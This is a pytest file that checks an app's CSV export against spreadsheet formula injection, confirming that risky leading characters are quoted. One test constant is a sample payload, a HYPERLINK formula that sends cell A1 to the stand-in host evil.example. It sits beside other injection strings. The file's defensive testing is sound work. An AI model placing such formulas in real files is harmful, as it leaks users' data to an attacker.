"""CSV formula injection: a text a collaborator wrote (a note, a branch name, a turn,
codes) comes out of the analysis export as text a spreadsheet shows, never as a
formula it runs; on both databases, and the rule itself on every trigger character."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from haico.services.reports.spreadsheet import safe_cell
from tests.history_helpers import new_thread, turn_ok

API = "/api/conversations"
NOTE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_export_csv_cells_cannot_start_a_formula(client: httpx.AsyncClient) -> None:
    tid = await new_thread(client, "-title")
    await turn_ok(client, tid, "=1+2")
    r = await client.post(f"{API}/{tid}/branch", json={"from_turn": 1})
    assert r.status_code == 201, r.text
    bid = r.json()["thread_id"]
    await turn_ok(client, bid, "@SUM(1)")
    assert (await client.patch(f"{API}/{bid}", json={"name": "=BRANCH()"})).status_code == 200
    r = await client.post(
        f"{API}/{tid}/nodes/1/notes", json={"text": NOTE, "codes": ["+code", "@SUM(1)"]}
    )
    assert r.status_code == 201, r.text

    for url in (f"{API}/{tid}/export.csv", "/api/export.csv"):
        r = await client.get(url)
        assert r.status_code == 200
        by = {row["node_id"]: row for row in _rows(r.text)}
        first, alt = by[f"{tid}:1"], by[f"{bid}:2"]
        assert first["user_message"] == "'=1+2"
        assert first["notes"] == "'" + NOTE  # the text itself kept whole
        assert first["codes"] == "'+code;@SUM(1)"
        assert alt["branch_name"] == "'=BRANCH()"
        assert alt["user_message"] == "'@SUM(1)"
        for row in by.values():
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_the_text_kept(start: str) -> None:
    assert safe_cell(f"{start}x, y") == f"'{start}x, y"


@pytest.mark.parametrize("value", ["plain", "a=b", " =x", "", "'=already", 3, -1.5, None])
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) == value
